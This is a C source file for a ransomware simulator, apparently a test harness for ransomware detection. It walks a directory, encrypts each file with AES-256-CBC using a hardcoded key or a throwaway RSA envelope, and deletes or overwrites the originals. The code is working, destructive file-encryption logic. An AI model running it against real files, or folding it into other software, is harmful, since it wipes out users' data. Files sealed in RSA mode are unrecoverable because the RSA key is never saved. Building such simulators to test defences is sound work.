// SPDX-License-Identifier: GPL-2.0
/*
 * ransim: a ransomware simulator. Walks DIR and encrypts every regular
 * file with libcrypto (AES-256-CBC, a fixed key) into NAME.aes, then
 * unlinks the original; prints each original's path as it is done.
 *
 * usage: ransim [-m encrypt|cipher|seal] [-o] [-n MAX] [-d MS] [-w FILE] DIR
 *   -m  the set-up call: EVP_EncryptInit_ex (default), EVP_CipherInit_ex,
 *       or EVP_SealInit (an RSA envelope)
 *   -o  rename-over instead: write NAME.aes, then rename it over NAME
 *   -n  stop after MAX files
 *   -d  sleep MS between files
 *   -w  wait until FILE exists before starting (libcrypto is mapped by then)
 */
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <openssl/evp.h>
#include <openssl/rsa.h>

enum mode { M_ENCRYPT, M_CIPHER, M_SEAL };

/* nftw() takes no context: the walk's settings, set once in main(). */
static struct {
	enum mode mode;
	bool over;
	long max, done;
	long delay_ms;
	EVP_PKEY *pub;
} sim;

static const unsigned char key[32] = "0123456789abcdef0123456789abcdef";
static const unsigned char iv[16] = "fedcba9876543210";

static void die(const char *what, const char *path)
{
	fprintf(stderr, "ransim: %s %s: %s\n", what, path, strerror(errno));
	exit(1);
}

static void start(EVP_CIPHER_CTX *ctx, const char *path)
{
	unsigned char ek[512], seal_iv[16];
	unsigned char *eks[1] = { ek };
	int ekl, ok;

	switch (sim.mode) {
	case M_CIPHER:
		ok = EVP_CipherInit_ex(ctx, EVP_aes_256_cbc(), NULL, key, iv, 1);
		break;
	case M_SEAL:
		ok = EVP_SealInit(ctx, EVP_aes_256_cbc(), eks, &ekl, seal_iv,
				  &sim.pub, 1);
		break;
	default:
		ok = EVP_EncryptInit_ex(ctx, EVP_aes_256_cbc(), NULL, key, iv);
	}
	if (!ok) {
		errno = EINVAL;
		die("encryption set-up for", path);
	}
}

static void encrypt_fd(int in, int out, const char *path)
{
	EVP_CIPHER_CTX *ctx = EVP_CIPHER_CTX_new();
	unsigned char buf[4096], enc[4096 + 32];
	ssize_t n;
	int len;

	if (!ctx)
		die("cipher context for", path);
	start(ctx, path);
	while ((n = read(in, buf, sizeof(buf))) > 0) {
		if (!EVP_EncryptUpdate(ctx, enc, &len, buf, n) ||
		    write(out, enc, len) != len)
			die("encrypt", path);
	}
	if (n < 0 || !EVP_EncryptFinal_ex(ctx, enc, &len) ||
	    write(out, enc, len) != len)
		die("encrypt", path);
	EVP_CIPHER_CTX_free(ctx);
}

static int one_file(const char *path, const struct stat *st, int type,
		    struct FTW *ftw)
{
	char aes[PATH_MAX];
	size_t n = strlen(path);
	int in, out;

	(void)st;
	(void)ftw;
	if (type != FTW_F || (n > 4 && !strcmp(path + n - 4, ".aes")))
		return 0;
	if (sim.max && sim.done == sim.max)
		return 1;
	snprintf(aes, sizeof(aes), "%s.aes", path);
	in = open(path, O_RDONLY);
	if (in < 0)
		die("open", path);
	out = open(aes, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	if (out < 0)
		die("create", aes);
	encrypt_fd(in, out, path);
	close(in);
	if (close(out))
		die("close", aes);
	if (sim.over ? rename(aes, path) : unlink(path))
		die(sim.over ? "rename over" : "unlink", path);
	printf("%s\n", path);
	fflush(stdout);
	sim.done++;
	if (sim.delay_ms)
		usleep(sim.delay_ms * 1000);
	return 0;
}

static void wait_for(const char *file)
{
	while (access(file, F_OK))
		usleep(20000);
}

int main(int argc, char **argv)
{
	const char *wait_file = NULL;
	int c;

	while ((c = getopt(argc, argv, "m:on:d:w:")) != -1) {
		switch (c) {
		case 'm':
			if (!strcmp(optarg, "cipher"))
				sim.mode = M_CIPHER;
			else if (!strcmp(optarg, "seal"))
				sim.mode = M_SEAL;
			else if (strcmp(optarg, "encrypt"))
				goto usage;
			break;
		case 'o':
			sim.over = true;
			break;
		case 'n':
			sim.max = atol(optarg);
			break;
		case 'd':
			sim.delay_ms = atol(optarg);
			break;
		case 'w':
			wait_file = optarg;
			break;
		default:
			goto usage;
		}
	}
	if (optind + 1 != argc)
		goto usage;
	if (sim.mode == M_SEAL && !(sim.pub = EVP_RSA_gen(1024))) {
		fprintf(stderr, "ransim: no RSA key\n");
		return 1;
	}
	if (wait_file)
		wait_for(wait_file);
	if (nftw(argv[optind], one_file, 16, FTW_PHYS) < 0)
		die("walk", argv[optind]);
	fprintf(stderr, "ransim: %ld files\n", sim.done);
	EVP_PKEY_free(sim.pub);
	return 0;
usage:
	fprintf(stderr, "usage: ransim [-m encrypt|cipher|seal] [-o] [-n MAX] [-d MS] [-w FILE] DIR\n");
	return 2;
}
